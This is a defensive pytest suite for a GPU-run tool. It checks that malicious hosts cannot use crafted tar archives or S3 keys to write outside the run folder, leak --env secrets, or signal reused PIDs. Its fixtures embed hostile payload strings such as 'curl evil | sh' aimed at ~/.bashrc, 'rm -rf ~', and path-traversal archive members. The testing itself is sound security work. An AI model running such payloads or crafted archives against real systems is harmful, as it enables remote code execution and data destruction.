"""A hostile or broken host must not reach the laptop: crafted tar streams through the test bed's
real sshd (login `gpurun-evil`, whose shell answers the pull with an archive the test wrote),
S3 keys that point outside, --env values that must stay secret, and a reused PID."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import pwd
import secrets
import socket
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
import urllib.request
from pathlib import Path

import boto3
import pytest

from gpu_run.backends.base import RunHandle
from gpu_run.config import builtin_local_host
from gpu_run.errors import BackendError
from gpu_run.local_shell import LocalShell
from gpu_run.remote import Remote, resolve_target
from gpu_run.runtimes.python import PythonRuntime
from gpu_run.sync import ssh_tar
from tests.conftest import missing_test_bed
from tests.conftest import testbed_env as bed_env

EVIL_DIR = Path("/tmp/gpu-run-evil")  # where the evil login shell reads its archive (tests/bed/up.sh)
REMOTE_MTIME = 1_700_000_000
GOOD = b"a checkpoint that was verified earlier\n"
METRICS = b'{"epoch": 1, "val_acc": 0.5}\n'
LAST = b"the host's new checkpoint bytes\n" * 4


# Crafted archives -------------------------------------------------------------------------------


def member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE,
           linkname: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mtime, info.mode = kind, linkname, REMOTE_MTIME, 0o644
    if kind == tarfile.CHRTYPE:
        info.devmajor, info.devminor = 1, 3
    info.size = len(data)
    return info, data


def archive(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buf.getvalue()


def expected_of(files: dict[str, bytes]) -> dict[str, tuple[int, int, str]]:
    return {name: (len(data), REMOTE_MTIME, hashlib.sha256(data).hexdigest()) for name, data in files.items()}


def snapshot(root: Path, skip: Path) -> dict[str, tuple[int, int]]:
    """Every path under root except skip's subtree, with size and mtime in ns."""
    out = {}
    for path in root.rglob("*"):
        if path == skip or skip in path.parents:
            continue
        st = path.lstat()
        out[str(path)] = (st.st_size, st.st_mtime_ns)
    return out


@pytest.fixture
def laptop(tmp_path):
    """A laptop home with a canary ~/.bashrc, and a run folder three levels below it holding a
    good checkpoint from an earlier pull."""
    home = tmp_path / "home"
    local_root = home / "gpu" / "runs" / "RUN"
    (local_root / "checkpoints").mkdir(parents=True)
    (local_root / "checkpoints" / "last.pth").write_bytes(GOOD)
    os.utime(local_root / "checkpoints" / "last.pth", (REMOTE_MTIME - 3600, REMOTE_MTIME - 3600))
    canary = home / ".bashrc"
    canary.write_bytes(b"# the user's own shell setup\n")
    os.utime(canary, (1_600_000_000, 1_600_000_000))
    outside = tmp_path / "outside"
    outside.mkdir()
    return home, local_root, outside


def assert_untouched(home: Path, local_root: Path, outside: Path, before: dict, absolute: Path | None = None) -> None:
    canary = home / ".bashrc"
    assert canary.read_bytes() == b"# the user's own shell setup\n"
    assert canary.stat().st_mtime_ns == 1_600_000_000 * 10**9
    assert snapshot(home, local_root) == before
    assert list(outside.iterdir()) == []
    assert (local_root / "checkpoints" / "last.pth").read_bytes() == GOOD
    assert not [p for p in local_root.rglob(".*part*")], "a temp file was left behind"
    if absolute is not None:
        assert not absolute.exists()


def attacks(outside: Path, absolute: Path) -> dict[str, tuple[bytes, str]]:
    """case -> (archive, what the error must name)."""
    wrong = bytes(len(LAST))
    return {
        "dotdot": (archive(member("../../../.bashrc", b"curl evil | sh\n")), "../../../.bashrc"),
        "absolute": (archive(member(str(absolute), b"x")), str(absolute)),
        "symlink_then_through": (archive(member("checkpoints", kind=tarfile.SYMTYPE, linkname=str(outside)),
                                         member("checkpoints/last.pth", LAST)), "'checkpoints'"),
        "hardlink": (archive(member("metrics.jsonl", kind=tarfile.LNKTYPE, linkname="../../../.bashrc")), "metrics.jsonl"),
        "device": (archive(member("metrics.jsonl", kind=tarfile.CHRTYPE)), "metrics.jsonl"),
        "directory": (archive(member("checkpoints", kind=tarfile.DIRTYPE)), "'checkpoints'"),
        "not_asked": (archive(member("evil.sh", b"rm -rf ~\n")), "evil.sh"),
        "bigger": (archive(member("metrics.jsonl", METRICS + b"x" * 100)), "metrics.jsonl"),
        "duplicate": (archive(member("metrics.jsonl", METRICS), member("metrics.jsonl", METRICS)), "metrics.jsonl"),
        "wrong_content": (archive(member("checkpoints/last.pth", wrong)), "checkpoints/last.pth"),
    }


# The extraction on its own, from memory ---------------------------------------------------------


@pytest.mark.parametrize("case", ["dotdot", "absolute", "symlink_then_through", "hardlink", "device", "directory",
                                  "not_asked", "bigger", "duplicate", "wrong_content"])
def test_extract_stream_refuses_what_was_not_asked(case, laptop):
    home, local_root, outside = laptop
    absolute = Path(f"/tmp/gpu-run-evil-abs-{secrets.token_hex(4)}")
    data, named = attacks(outside, absolute)[case]
    before = snapshot(home, local_root)
    expected = expected_of({"metrics.jsonl": METRICS, "checkpoints/last.pth": LAST})
    with pytest.raises(BackendError) as e:
        ssh_tar.extract_stream(io.BytesIO(data), local_root, expected, "evil-box")
    assert named in str(e.value) and "evil-box" in str(e.value)
    assert_untouched(home, local_root, outside, before, absolute)


def test_extract_stream_writes_asked_files_with_their_mtime(laptop):
    _, local_root, _ = laptop
    files = {"metrics.jsonl": METRICS, "checkpoints/last.pth": LAST}
    stats = ssh_tar.extract_stream(io.BytesIO(archive(*(member(n, d) for n, d in files.items()))), local_root,
                                   expected_of(files))
    assert (stats.files_sent, stats.bytes_sent) == (2, len(METRICS) + len(LAST))
    for name, data in files.items():
        assert (local_root / name).read_bytes() == data
        assert int((local_root / name).stat().st_mtime) == REMOTE_MTIME
    # The next comparison sees both as arrived: nothing would travel again.
    remote = {n: (len(d), REMOTE_MTIME) for n, d in files.items()}
    assert ssh_tar.diff_manifests(remote, ssh_tar.local_manifest(local_root)) == ([], [])


def test_extract_stream_refuses_a_symlink_already_in_the_run_folder(laptop):
    home, local_root, outside = laptop
    run2 = local_root.parent / "RUN2"
    run2.mkdir()
    (run2 / "checkpoints").symlink_to(outside)
    with pytest.raises(BackendError, match="symlink"):
        ssh_tar.extract_stream(io.BytesIO(archive(member("checkpoints/last.pth", LAST))), run2,
                               expected_of({"checkpoints/last.pth": LAST}))
    assert list(outside.iterdir()) == []


def test_extract_stream_bounds_what_tarfile_may_buffer(laptop):
    _, local_root, _ = laptop
    # A pax header claiming 8 MiB: tarfile would read all of it into memory before any check.
    info = tarfile.TarInfo("././@PaxHeader")
    info.type, info.size = tarfile.XHDTYPE, 8 << 20
    stream = io.BytesIO(info.tobuf(tarfile.USTAR_FORMAT) + b"9 a=b\n" * ((8 << 20) // 6 + 1))
    with pytest.raises(BackendError, match="more than"):
        ssh_tar.extract_stream(stream, local_root, expected_of({"metrics.jsonl": METRICS}))


def test_names_and_sha256sum_output():
    for bad in ("", "/etc/passwd", "../x", "a/../../x", "a//b", "./a", "a/", "a\\..\\b"):
        assert not ssh_tar.safe_relpath(bad), bad
    assert ssh_tar.safe_relpath("checkpoints/last.pth") and ssh_tar.safe_relpath("a b/c..d")
    h = "ab" * 32
    out = f"{h}  plain.txt\n\\{h}  new\\nline\\\\x\n{h} *binary\n"
    assert ssh_tar.parse_sha256sum(out) == {"plain.txt": h, "new\nline\\x": h, "binary": h}


# Through the real sshd, as the hostile login ----------------------------------------------------


@pytest.fixture
def evil_remote(tmp_path):
    bed = bed_env()
    if not bed:
        missing_test_bed("no .testbed/env (sshd not set up)")
    try:
        pwd.getpwnam("gpurun-evil")
    except KeyError:
        missing_test_bed("no gpurun-evil login")
    known = tmp_path / "known_hosts"
    host_key = Path(bed["GPU_RUN_TEST_SSH_HOST_KEY"]).read_text().split()[:2]
    known.write_text(f"[127.0.0.1]:{bed['GPU_RUN_TEST_SSH_PORT']} {' '.join(host_key)}\n")
    target = resolve_target(f"gpurun-evil@127.0.0.1:{bed['GPU_RUN_TEST_SSH_PORT']}", key_file=bed["GPU_RUN_TEST_SSH_KEY"],
                            ssh_config_path=tmp_path / "no-ssh-config")
    remote = Remote(dataclasses.replace(target, known_hosts=str(known)))
    # What the host lists and hashes honestly: the asked names and sizes come from here.
    EVIL_DIR.mkdir(mode=0o755, exist_ok=True)
    EVIL_DIR.chmod(0o755)
    root = EVIL_DIR / f"out-{secrets.token_hex(4)}"
    (root / "checkpoints").mkdir(parents=True)
    for path in (root, root / "checkpoints"):
        path.chmod(0o755)
    for name, data in {"metrics.jsonl": METRICS, "checkpoints/last.pth": LAST}.items():
        (root / name).write_bytes(data)
        (root / name).chmod(0o644)
        os.utime(root / name, (REMOTE_MTIME, REMOTE_MTIME))
    try:
        remote.connect()
    except BackendError as e:
        missing_test_bed(f"cannot log in as gpurun-evil ({e})")
    yield remote, str(root)
    remote.close()
    subprocess.run(["rm", "-rf", str(root)])
    (EVIL_DIR / "archive.tar").unlink(missing_ok=True)


def host_answers(data: bytes) -> None:
    tmp = EVIL_DIR / "archive.tar.tmp"
    tmp.write_bytes(data)
    tmp.chmod(0o644)
    os.replace(tmp, EVIL_DIR / "archive.tar")


@pytest.mark.integration
@pytest.mark.parametrize("case", ["dotdot", "absolute", "symlink_then_through", "hardlink", "device",
                                  "not_asked", "bigger", "wrong_content"])
def test_hostile_host_cannot_write_outside_the_run_folder(case, evil_remote, laptop, fault_row):
    remote, remote_root = evil_remote
    home, local_root, outside = laptop
    absolute = Path(f"/tmp/gpu-run-evil-abs-{secrets.token_hex(4)}")
    data, named = attacks(outside, absolute)[case]
    host_answers(data)
    before = snapshot(home, local_root)
    with pytest.raises(BackendError) as e:
        ssh_tar.pull(remote, remote_root, local_root, attempts=1)
    assert named in str(e.value), str(e.value)
    assert "lost the connection" not in str(e.value)  # refused as misbehaviour, not retried as a drop
    assert_untouched(home, local_root, outside, before, absolute)
    assert not (local_root / "metrics.jsonl").exists()
    fault_row(f"malicious host answers pull with a crafted archive ({case})", 0, 0, None, True)


@pytest.mark.integration
def test_honest_answer_through_the_hostile_login_and_resume(evil_remote, laptop):
    """The control: the same login with a correct archive works; a stream cut after the first
    file keeps that file, and the retry asks only for the rest."""
    remote, remote_root = evil_remote
    _, local_root, _ = laptop
    whole = archive(member("metrics.jsonl", METRICS), member("checkpoints/last.pth", LAST))
    cut = 3 * 512 + 50  # two headers and metrics.jsonl's block, then the middle of last.pth's data
    host_answers(whole[:cut])
    with pytest.raises(BackendError, match="lost the connection"):
        ssh_tar.pull(remote, remote_root, local_root, attempts=1)
    assert (local_root / "metrics.jsonl").read_bytes() == METRICS
    assert (local_root / "checkpoints" / "last.pth").read_bytes() == GOOD
    # Only last.pth is asked now: an archive holding metrics.jsonl again would be refused.
    host_answers(archive(member("checkpoints/last.pth", LAST)))
    stats = ssh_tar.pull(remote, remote_root, local_root, attempts=1)
    assert stats.files_sent == 1
    assert (local_root / "checkpoints" / "last.pth").read_bytes() == LAST
    assert ssh_tar.pull(remote, remote_root, local_root, attempts=1).files_sent == 0


# S3 keys that point elsewhere, and the keys the host gets ---------------------------------------

LAPTOP_KEY, LAPTOP_SECRET = "AKIATESTGPURUN", "gpuRunHostileSecret-5d2a"


@pytest.fixture
def laptop_keys(monkeypatch):
    """The laptop's own AWS keys, in its environment."""
    for key, value in {"AWS_ACCESS_KEY_ID": LAPTOP_KEY, "AWS_SECRET_ACCESS_KEY": LAPTOP_SECRET,
                       "AWS_DEFAULT_REGION": "us-east-1"}.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)


@pytest.fixture
def moto_url(laptop_keys):
    url = bed_env().get("GPU_RUN_TEST_MOTO_URL")
    if not url:
        missing_test_bed("no moto server in .testbed/env")
    try:
        urllib.request.urlopen(f"{url}/moto-api/", timeout=5)
    except OSError as e:
        missing_test_bed(f"moto server at {url} does not answer ({e})")
    return url


def s3_with(url: str, objects: dict[str, bytes], metadata: dict[str, dict] | None = None) -> tuple:
    """A fresh bucket (no reset: other tests may be using moto) holding these keys."""
    client = boto3.client("s3", endpoint_url=url, region_name="us-east-1")
    bucket = f"hostile-{secrets.token_hex(4)}"
    client.create_bucket(Bucket=bucket)
    for key, body in objects.items():
        client.put_object(Bucket=bucket, Key=key, Body=body, Metadata=(metadata or {}).get(key, {}))
    return client, bucket


@pytest.mark.integration
def test_s3sync_download_keeps_every_key_inside_and_skips_folders(moto_url, tmp_path, capsys):
    from gpu_run.trainer import s3sync

    prefix = "p/datasets/D"
    client, bucket = s3_with(moto_url, {
        f"{prefix}/train/a/ok.jpg": b"jpeg", f"{prefix}/train/": b"", f"{prefix}/../../escape.txt": b"x",
        f"{prefix}//abs.txt": b"x", f"{prefix}/link/x.txt": b"x",
    })
    dest, outside = tmp_path / "a" / "b" / "dest", tmp_path / "outside"
    dest.mkdir(parents=True)
    outside.mkdir()
    (dest / "link").symlink_to(outside)
    s3sync.download(client, f"s3://{bucket}/{prefix}", dest)
    out = capsys.readouterr()
    event = json.loads(out.out.strip().splitlines()[-1])
    assert (event["objects"], event["fetched"], event["refused"]) == (1, 1, 3)
    assert (dest / "train" / "a" / "ok.jpg").read_bytes() == b"jpeg"
    assert list(outside.iterdir()) == [] and not (tmp_path / "a" / "escape.txt").exists()
    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(("escape", "abs"))]
    assert "escape.txt" in out.err and "abs.txt" in out.err and "link/x.txt" in out.err


@pytest.mark.integration
def test_download_run_skips_folder_objects_and_keys_outside(moto_url, tmp_path):
    from gpu_run.config import Host
    from gpu_run.sync.s3 import S3Store

    good = b"checkpoint"
    prefix = "p/runs/R"
    _, bucket = s3_with(moto_url, {
        f"{prefix}/checkpoints/": b"", f"{prefix}/checkpoints/last.pth": good, f"{prefix}/../../escape.txt": b"x",
        f"{prefix}/link/x.txt": b"x",
    }, {f"{prefix}/checkpoints/last.pth": {"sha256": hashlib.sha256(good).hexdigest()}})
    local, outside = tmp_path / "a" / "b" / "R", tmp_path / "outside"
    local.mkdir(parents=True)
    outside.mkdir()
    (local / "link").symlink_to(outside)
    store = S3Store(Host(name="h", kind="ssh", ssh="x", sync="s3", bucket=bucket, prefix="p", s3_endpoint_url=moto_url))
    warned: list[str] = []
    assert store.download_run("R", local, warn=warned.append) == 1
    assert (local / "checkpoints" / "last.pth").read_bytes() == good
    assert len(warned) == 2 and list(outside.iterdir()) == [] and not (tmp_path / "a" / "escape.txt").exists()
    # A corrupted object never becomes visible, and leaves no temp file.
    s3 = boto3.client("s3", endpoint_url=moto_url, region_name="us-east-1")
    s3.put_object(Bucket=bucket, Key=f"{prefix}/metrics.jsonl", Body=b"tampered", Metadata={"sha256": "0" * 64})
    with pytest.raises(BackendError, match="corrupted"):
        store.download_run("R", local, warn=warned.append)
    assert not (local / "metrics.jsonl").exists() and not list(local.glob(".*part*"))


@pytest.mark.integration
def test_host_gets_short_lived_keys_scoped_to_the_prefix(moto_url):
    from gpu_run.config import Host
    from gpu_run.sync.s3 import S3Store

    host = Host(name="h", kind="ssh", ssh="x", sync="s3", bucket="thesis", prefix="gpu-run", s3_endpoint_url=moto_url)
    store = S3Store(host)
    env = store.host_credentials_env()
    assert env["AWS_ACCESS_KEY_ID"] != LAPTOP_KEY and env["AWS_SESSION_TOKEN"]
    assert LAPTOP_SECRET not in env.values()
    assert store.host_credentials_env() == env  # one STS call per store, the same keys for every helper
    policy = json.loads(store.session_policy())
    assert policy["Statement"][0]["Resource"] == "arn:aws:s3:::thesis/gpu-run/*"
    assert policy["Statement"][1]["Condition"] == {"StringLike": {"s3:prefix": ["gpu-run/*"]}}
    role = S3Store(dataclasses.replace(host, s3_role_arn="arn:aws:iam::123456789012:role/gpu-run-host"))
    assert role.host_credentials_env()["AWS_SESSION_TOKEN"]
    laptop = S3Store(dataclasses.replace(host, s3_host_credentials="laptop")).host_credentials_env()
    assert (laptop["AWS_ACCESS_KEY_ID"], laptop["AWS_SECRET_ACCESS_KEY"]) == (LAPTOP_KEY, LAPTOP_SECRET)


def test_a_store_without_sts_is_refused_with_the_fix(laptop_keys, monkeypatch):
    from gpu_run.config import Host
    from gpu_run.errors import ConfigError
    from gpu_run.sync.s3 import S3Store

    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    with socket.socket() as s:  # a port nobody answers on: like a store that has no STS at all
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    host = Host(name="minio", kind="ssh", ssh="x", sync="s3", bucket="b", s3_endpoint_url=f"http://127.0.0.1:{port}")
    with pytest.raises(ConfigError) as e:
        S3Store(host).host_credentials_env()
    message = str(e.value)
    assert "\n" not in message and 's3_host_credentials = "laptop"' in message and "[hosts.minio]" in message


# --env values -----------------------------------------------------------------------------------


@pytest.mark.integration
def test_env_values_reach_the_trainer_but_not_the_ledger_ps_or_the_host(ssh_host, dataset, gpu_run_home):
    value = f"s3cr3t-value-{secrets.token_hex(4)}"
    snapshots: list[str] = []
    done = threading.Event()

    def watch_ps() -> None:
        while not done.is_set():
            snapshots.append(subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout)
            time.sleep(0.1)

    watcher = threading.Thread(target=watch_ps)
    watcher.start()
    try:
        started = ssh_host.cli("train", "--host", "t4-box", "--image-size", "32", "--batch-size", "8", "--workers", "0", "--weights", "none",
                               "--epochs", "1", "--env", f"SECRET_TOKEN={value}", "--data", str(dataset), "--detach")
        assert started.returncode == 0, started.stderr
        run_id = started.stdout.split("gpu-run attach ")[-1].split()[0]
        # The trainer's container has it (Docker keeps env in the container's config: inspect shows it).
        env = subprocess.run(["docker", "inspect", "-f", "{{json .Config.Env}}", f"gpu-run-{run_id}"],
                             capture_output=True, text=True).stdout
        assert f"SECRET_TOKEN={value}" in env, env
        summary = ssh_host.cli.json("attach", run_id)
        assert summary["status"] == "succeeded"
    finally:
        done.set()
        watcher.join()
    # Only the laptop's own gpu-run command line, which the user typed, holds the value.
    leaks = [line for snap in snapshots for line in snap.splitlines() if value in line and "gpu_run.cli" not in line]
    assert snapshots and not leaks, leaks
    for path in [*gpu_run_home.rglob("*"), *ssh_host.remote_run_dir(run_id).rglob("*"), *Path(summary["run_dir"]).rglob("*")]:
        if path.is_file():
            assert value.encode() not in path.read_bytes(), path
    assert not (ssh_host.remote_run_dir(run_id) / "trainer.env").exists()
    db = sqlite3.connect(gpu_run_home / "runs.db")
    (args_json,) = db.execute("SELECT args_json FROM runs WHERE run_id = ?", [run_id]).fetchone()
    assert '"extra_env": ["SECRET_TOKEN"]' in args_json


# A PID that now belongs to someone else ---------------------------------------------------------


def test_stop_never_signals_a_process_that_reused_the_pid(gpu_run_home, tmp_path):
    """The run's pid files name processes that may have ended and had their PIDs reused: the
    runtime signals a PID only when its command line still names the run."""
    run_id = "20261129-000000-abcd"
    run_dir = tmp_path / "local-runs" / run_id
    run_dir.mkdir(parents=True)
    runtime = PythonRuntime(builtin_local_host(), LocalShell(), str(tmp_path), {"python": sys.executable}, "test")
    handle = RunHandle(backend="process", runtime="python", run_dir=str(run_dir))

    def point_at(pid: int) -> None:
        (run_dir / "job.pid").write_text(f"{pid}\n")
        (run_dir / "job.pgid").write_text(f"{pid}\n")

    other = subprocess.Popen(["sleep", "30"], start_new_session=True)
    ours = None
    try:
        point_at(other.pid)
        assert runtime.exit_code(handle) == -1  # the run's own process is gone, its code unknown
        runtime.stop(handle, timeout_s=1)
        time.sleep(0.2)
        assert other.poll() is None, "an unrelated process was killed"
        # A process of the run (its command line names the run) is signalled, with its group.
        ours = subprocess.Popen(["sh", "-c", f"sleep 30; : {run_id}"], start_new_session=True)
        point_at(ours.pid)
        assert runtime.exit_code(handle) is None
        runtime.stop(handle, timeout_s=5)
        assert ours.wait(timeout=10) != 0
    finally:
        other.kill()
        other.wait()
        if ours is not None and ours.poll() is None:
            ours.kill()
